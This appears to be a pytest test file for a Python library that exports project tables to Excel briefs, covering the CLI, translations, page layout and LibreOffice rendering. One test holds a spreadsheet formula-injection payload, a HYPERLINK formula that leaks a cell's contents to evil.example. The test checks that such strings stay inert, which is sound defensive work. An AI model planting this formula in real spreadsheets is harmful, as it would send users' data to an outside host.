    path = build_brief(data_dir, tmp_path / "out.xlsx", warn=warnings.append)
    assert len(warnings) == 1 and "datapackage.json" in warnings[0]
    text = _all_text(path)
    assert (
        "the tables&apos; folder has no datapackage.json" in text or "no datapackage.json" in text
    )


def test_command_line(data_dir, tmp_path, capsys, monkeypatch) -> None:
    out = tmp_path / "cli.xlsx"
    assert main_brief(["--data", str(data_dir), "--lang", "lt", "-o", str(out)]) == 0
    captured = capsys.readouterr()
    assert out.is_file() and "wrote" in captured.out and captured.err == ""
    assert load_workbook(out).sheetnames[0] == "Apie"
    # CWLIB_DATA is the default data folder
    monkeypatch.setenv("CWLIB_DATA", str(data_dir))
    out2 = tmp_path / "env.xlsx"
    assert main_brief(["--project", "hostile", "sb-creative-clusters", "-o", str(out2)]) == 0
    ids = [r["Project"] for r in _sheet_rows(load_workbook(out2)["Overview"])]
    assert ids == ["hostile", "sb-creative-clusters"]
    # errors: a message listing the valid ids, exit status 2, no traceback
    assert main_brief(["--project", "nope", "-o", str(tmp_path / "x.xlsx")]) == 2
    err = capsys.readouterr().err
    assert "unknown project id: nope" in err and "sb-creative-clusters" in err
    assert err.count("\n") == 1
    assert main_brief(["--data", str(tmp_path / "missing"), "-o", str(out)]) == 2
    assert "no such folder" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main_brief(["--lang", "fr"])
    assert "invalid choice: 'fr'" in capsys.readouterr().err


def test_cli_debug_shows_the_traceback(data_dir, tmp_path) -> None:
    from cwlib import cli

    with pytest.raises(BriefError, match="unknown project id"):
        cli.main(["--debug", "brief", "--data", str(data_dir), "--project", "nope"])


def test_arguments_for_the_cli() -> None:
    parser = add_brief_arguments(argparse.ArgumentParser())
    args = parser.parse_args(["--project", "a", "b", "--project", "c", "--include-contacts"])
    assert args.projects == ["a", "b", "c"] and args.include_contacts
    assert args.lang == "en" and args.output is None and args.data is None
    assert callable(run_brief)


def test_import_cwlib_does_not_import_openpyxl() -> None:
    code = "import sys, cwlib; sys.exit('openpyxl' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code]).returncode == 0


def test_a_brief_never_imports_pandas(tmp_path) -> None:
    """`cwlib brief` reads the tables as plain rows: importing pandas was half its start."""
    out = tmp_path / "b.xlsx"
    code = (
        "import sys; from cwlib.cli import main; "
        f"main(['brief', '--data', {str(paths.CLEAN_DIR)!r}, '-o', {str(out)!r}]); "
        "sys.exit('pandas' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], capture_output=True).returncode == 0
    assert out.is_file()


def _parts(path: Path) -> dict[str, bytes]:
    """A workbook's parts, but the time it was saved (openpyxl stamps it at saving)."""
    with zipfile.ZipFile(path) as z:
        return {
            n: re.sub(rb"<dcterms:modified[^<]*</dcterms:modified>", b"", z.read(n))
            for n in z.namelist()
        }


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_rows_and_dataframes_make_the_same_brief(lang, tmp_path, monkeypatch) -> None:
    """``build_brief`` reads plain rows (``load_rows``); a notebook passes ``cwlib.load``'s
    DataFrames to ``write_brief``. Both must write the same workbook, part for part."""
    from cwlib.build.load import load
    from cwlib.export.brief import table_files

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    rows = build_brief(paths.CLEAN_DIR, tmp_path / "rows.xlsx", lang=lang)
    frames = write_brief(
        load(paths.CLEAN_DIR, include_contacts=True),
        tmp_path / "frames.xlsx",
        lang=lang,
        inputs=table_files(paths.CLEAN_DIR),
    )
    assert _parts(rows) == _parts(frames)


# --- For notebooks ------------------------------------------------------------------------------


def test_describe_workbook(briefs) -> None:
    frame = describe_workbook(briefs["lt"])
    assert frame["sheet"].tolist() == sheet_names("lt")
    rows = dict(zip(frame["sheet"], frame["rows"], strict=True))
    assert rows["Apžvalga"] == 4 and rows["Biudžetai"] == 16
    charts = dict(zip(frame["sheet"], frame["charts"], strict=True))
    assert charts["Diagramos"] == 3 and sum(charts.values()) == 3


def test_brief_findings(tables) -> None:
    text = brief_findings(tables)
    assert "**4** projects" in text and "1 litas sums are converted" in text
    assert "**1** contact person" in text and "**1** other text cell" in text
    assert "1 without a year" in text and "1 of them errors" in text
    one = brief_findings(tables, ["visaginas-cluster"])
    assert "**1** project (visaginas-cluster)" in one and "3 other projects" in one
    assert "none states an EU share" in one and "**1** give EU and state funds" in one


def test_reports_dir_follows_a_report_run(monkeypatch, tmp_path) -> None:
    monkeypatch.delenv("CWLIB_FIGURES", raising=False)
    assert reports_dir() == paths.REPORTS_DIR
    monkeypatch.setenv("CWLIB_FIGURES", str(tmp_path / "out" / "figures"))
    assert reports_dir() == tmp_path / "out"


def test_notebook_is_thin_and_committed_without_outputs() -> None:
    import json

    path = paths.NOTEBOOKS_DIR / "05_excel_brief.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    code = []
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            assert cell["outputs"] == [] and cell["execution_count"] is None
            code.append("".join(cell["source"]))
    assert "tables = cwlib.load()" in code[0]
    text = "\n".join(code)
    assert "brief.build_brief(" in text and 'lang="lt"' in text and "projects=selection" in text
    assert not re.search(r"^\s*(def|class)\b|\blambda\b", text, re.M)
    assert all(len(c.splitlines()) <= 15 for c in code)


# --- Real tables --------------------------------------------------------------------------------


@pytest.mark.skipif(
    not (paths.CLEAN_DIR / "projects.csv").exists(), reason="data/clean not built yet"
)
def test_brief_of_the_clean_tables(tmp_path) -> None:
    import cwlib

    tables = cwlib.load(paths.CLEAN_DIR, include_contacts=True)
    for lang in i18n.LANGS:
        path = build_brief(paths.CLEAN_DIR, tmp_path / f"{lang}.xlsx", lang=lang)
        wb = load_workbook(path)
        ids = [
            r[i18n.header("overview", "project_id", lang)]
            for r in _sheet_rows(wb[wb.sheetnames[1]])
        ]
        assert ids == tables["projects"]["project_id"].tolist()
        text = _all_text(path)
        contacts = tables["contacts"]
        for column in ("name", "email", "phone"):
            for value in contacts[column].dropna():
                assert str(value) not in text, value
        assert "rietavomuc@gmail.com" not in text and "67382349" not in text
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                assert all(c.data_type != "f" for c in row)


def test_findings_sheet_speaks_the_brief_language(tmp_path) -> None:
    """Check names and messages from the translation table; the difference with its unit."""
    import cwlib

    findings = cwlib.load(paths.CLEAN_DIR).findings
    for lang in i18n.LANGS:
        path = build_brief(paths.CLEAN_DIR, tmp_path / f"{lang}.xlsx", lang=lang)
        ws = load_workbook(path)[i18n.sheet_name("findings", lang)]
        rows = list(ws.iter_rows(min_row=2))
        header = [c.value for c in ws[1]]
        col = {
            key: header.index(i18n.header("findings", key, lang))
            for key in ("check", "message", "difference")
        }
        assert len(rows) == len(findings)
        for cells, (check, message, difference) in zip(
            rows, findings[["check", "message", "difference"]].itertuples(index=False), strict=True
        ):
            assert cells[col["check"]].value == i18n.CHECKS[check]["name"][lang]
            assert cells[col["message"]].value == messages.translate(check, message, lang)
            unit = messages.difference_unit(check, message)
            if pd.notna(difference):
                fmt = cells[col["difference"]].number_format
                assert unit is not None and i18n.DIFFERENCE_FORMATS[unit][lang] in fmt, fmt
                assert fmt.startswith("+")  # a signed difference


def test_a_sum_stated_twice_is_marked(tables, tmp_path) -> None:
    """Two different totals for one project: the first is shown, marked, both quoted."""
    t = {k: v.copy() for k, v in tables.items()}
    extra = t["budgets"].iloc[[0]].assign(amount=250000.0, amount_eur=250000.0, quote="250 000 Eur")
    t["budgets"] = pd.concat([t["budgets"], extra], ignore_index=True)
    path = write_brief(t, tmp_path / "b.xlsx")
    ws = load_workbook(path)["Overview"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(2, header.index("Total (EUR)") + 1)
    assert cell.value == 264145.0 and cell.number_format.endswith('*"')
    assert "264,145.00" in cell.comment.text and "250,000.00" in cell.comment.text
    other = ws.cell(3, header.index("Total (EUR)") + 1)
    assert "*" not in other.number_format
    assert i18n.caveat("several", "en") in _all_text(path).replace("&apos;", "'")


@pytest.mark.slow
@pytest.mark.skipif(
    not (paths.CLEAN_DIR / "projects.csv").exists(), reason="data/clean not built yet"
)
def test_libreoffice_renders_the_brief_of_the_clean_tables(tmp_path) -> None:
    import cwlib

    projects = cwlib.load(paths.CLEAN_DIR)["projects"]
    path = build_brief(paths.CLEAN_DIR, tmp_path / "brief_lt.xlsx", lang="lt")
    pdf = _convert(path, "pdf", tmp_path, tmp_path / "profile")
    text = re.sub(r"\s+", "", pdf_text(pdf.read_bytes()))
    for pid, title in zip(projects["project_id"], projects["title"], strict=True):
        assert pid in text, pid
        assert re.sub(r"\s+", "", str(title))[:12] in text, title
    assert "rietavomuc" not in text


# --- Second client: LibreOffice -----------------------------------------------------------------


def _soffice() -> str:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        if os.environ.get("CI"):
            pytest.fail(
                "LibreOffice (soffice) is required in CI: apt-get install libreoffice-calc-nogui"
            )
        pytest.skip("LibreOffice (soffice) not installed; .ci/run installs it")
    return exe


def _convert(path: Path, target: str, out_dir: Path, profile: Path) -> Path:
    """Convert with LibreOffice headless, in a private profile so parallel runs do not clash."""
    result = subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            target,
            "--outdir",
            str(out_dir),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    ext = target.split(":")[0]
    assert result.returncode == 0, result.stderr
    converted = sorted(out_dir.glob(f"{path.stem}*.{ext}"))
    assert len(converted) == 1, (result.stdout, result.stderr)
    return converted[0]


def pdf_text(data: bytes) -> str:
    """The text of a PDF written by LibreOffice, without a PDF library.

    LibreOffice embeds font subsets and maps glyph codes back to characters with a ToUnicode
    CMap per font; this decodes the content streams' hex strings with those maps. Enough to
    check which words a page shows, not a general PDF parser.
    """
    objects = {int(n): body for n, body in re.findall(rb"(\d+) 0 obj(.*?)endobj", data, re.S)}

    def stream(body: bytes) -> bytes:
        m = re.search(rb"stream\r?\n(.*)endstream", body, re.S)
        if not m:
            return b""
        raw = m.group(1)
        return zlib.decompressobj().decompress(raw) if b"FlateDecode" in body[: m.start()] else raw

    def deref(body: bytes, key: bytes) -> bytes:
        """The dictionary under /key, inline or through an indirect reference."""
        m = re.search(rb"/" + key + rb"\s*(\d+) 0 R", body)
        if m:
            return objects.get(int(m.group(1)), b"")
        m = re.search(rb"/" + key + rb"\s*<<(.*?)>>", body, re.S)
        return m.group(1) if m else b""

    def cmap(body: bytes) -> dict[bytes, str]:
        table: dict[bytes, str] = {}
        text = stream(body)
        for block in re.findall(rb"beginbfchar(.*?)endbfchar", text, re.S):
            for src, dst in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
                table[bytes.fromhex(src.decode())] = bytes.fromhex(dst.decode()).decode("utf-16-be")
        pattern = rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>"
        for block in re.findall(rb"beginbfrange(.*?)endbfrange", text, re.S):
            for lo, hi, dst in re.findall(pattern, block):
                a, b, d = int(lo, 16), int(hi, 16), int(dst, 16)
                for k in range(b - a + 1):
                    table[(a + k).to_bytes(len(lo) // 2, "big")] = chr(d + k)
        return table

    out: list[str] = []
    for body in objects.values():
        if not re.search(rb"/Type\s*/Page\b", body) or b"/Contents" not in body:
            continue
        fonts: dict[bytes, dict[bytes, str]] = {}
        for name, num in re.findall(
            rb"/(\w+)\s*(\d+) 0 R", deref(deref(body, b"Resources"), b"Font")
        ):
            font = objects.get(int(num), b"")
            ref = re.search(rb"/ToUnicode\s*(\d+) 0 R", font)
            fonts[name] = cmap(objects[int(ref.group(1))]) if ref else {}
        for c in re.findall(rb"/Contents\s*(\d+) 0 R", body):
            font: dict[bytes, str] = {}
            for tok in re.finditer(
                rb"/(\w+) [\d.]+ Tf|<([0-9A-Fa-f]*)>|(ET)", stream(objects[int(c)])
            ):
                if tok.group(1):
                    font = fonts.get(tok.group(1), {})
                elif tok.group(2) is not None:
                    raw = bytes.fromhex(tok.group(2).decode())
                    w = max((len(k) for k in font), default=1)
                    out.append("".join(font.get(raw[i : i + w], "") for i in range(0, len(raw), w)))
                else:
                    out.append(" ")
    return "".join(out)


@pytest.mark.slow
@pytest.mark.parametrize("lang", i18n.LANGS)
def test_libreoffice_renders_the_brief(briefs, lang, tmp_path) -> None:
    _soffice()
    pdf = _convert(briefs[lang], "pdf", tmp_path, tmp_path / "profile")
    data = pdf.read_bytes()
    assert data.startswith(b"%PDF") and data.count(b"/Type /Page") + data.count(b"/Type/Page") >= 5
    text = re.sub(r"\s+", "", pdf_text(data))
    for pid in ("sb-creative-clusters", "urban-creative-poles", "visaginas-cluster"):
        assert pid in text, pid
    assert re.sub(r"\s+", "", i18n.sheet_name("overview", lang)) in text
    if lang == "lt":
        assert "Pietų" in text and "įkūrimas" in text
    if shutil.which("pdftotext"):  # cross-check the small extractor when poppler is there
        plain = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
        assert "sb-creative-clusters" in plain


@pytest.mark.slow
def test_libreoffice_reads_hostile_text_as_text(briefs, tmp_path) -> None:
    """A second client sees the hostile strings as text, not as evaluated formulas."""
    _soffice()
    # CSV export of the Budgets sheet (sheet 5): party and quote columns hold the hostile texts
    sheet = sheet_names("en").index("Budgets") + 1
    csv = _convert(
        briefs["en"],
        f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet}",
        tmp_path,
        tmp_path / "profile",
    )
    text = csv.read_text(encoding="utf-8")
    assert '=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")' in text
    assert "@SUM(1)" in text and "=1+1" in text and "#REF!" in text
    assert "Click" not in text.replace('""Click""', "")


def test_a_heading_near_the_foot_of_a_page_starts_the_next() -> None:
    """The About sheet counts the height of its rows; a heading with no room for the lines
    after it on the page starts the next page (a manual page break before it)."""
    from openpyxl import Workbook

    from cwlib.export.brief import _About

    about = _About(Workbook(), "en", [])
    while about.used + 5 * 15 < about.page_pt:  # fill the page to four lines from its foot
        about.line("label", "value")
    assert not about.ws.row_breaks.brk
    about.heading("about.caveats")
    assert [b.id for b in about.ws.row_breaks.brk] == [about.row - 2]
    assert about.ws.cell(about.row - 1, 1).value == "Caveats"
    about.line("1.", "a caveat")  # the heading and its first line share the new page
    assert about.used < 3 * 20


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.floats(min_value=15.0, max_value=409.0), min_size=1, max_size=80),
    st.floats(min_value=15.0, max_value=60.0),
    st.floats(min_value=0.8, max_value=1.0),
)
def test_planned_pages_fit_and_are_full_enough(
    heights: list[float], header_pt: float, scale: float
) -> None:
    """Every planned page holds its rows under the header, and no page could have taken
    the next page's first row (a page is never cut short)."""
    from cwlib.export.brief import PRINTABLE_HEIGHT_PT, TABLE_PAGE_FILL, _page_breaks

    room = TABLE_PAGE_FILL * PRINTABLE_HEIGHT_PT / scale - header_pt
    breaks = _page_breaks(heights, header_pt, scale)
    assert breaks == sorted(set(breaks))
    edges = [1, *breaks, len(heights) + 1]  # rows 2..n+1; a page holds rows (a, b]
    for a, b in itertools.pairwise(edges):
        page = heights[a - 1 : b - 1]
        assert page  # no empty page is planned
        assert len(page) == 1 or sum(page) <= room + 1e-9
        if b <= len(heights):
            assert sum(page) + heights[b - 1] > room


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("ab c-d\t\n\u00a0ėž,.;–"), max_size=80),
    st.sampled_from([6, 8, 10, 14, 20, 26.5, 50]),
)
def test_wrapped_lines_are_textwraps_count(text: str, width: float) -> None:
    """The row heights count lines as ``textwrap`` wraps them, also where a paragraph no
    longer than a line skips it and a repeated one is remembered."""
    from cwlib.export.brief import _chars_per_line, _wrapped_lines

    per_line = _chars_per_line(width)
    expected = sum(
        max(1, len(textwrap.wrap(part, per_line, break_on_hyphens=True)))
        for part in text.splitlines() or [""]
    )
    assert _wrapped_lines(text, width) == (expected if text else 1)
    assert _wrapped_lines(text, width) == (expected if text else 1)
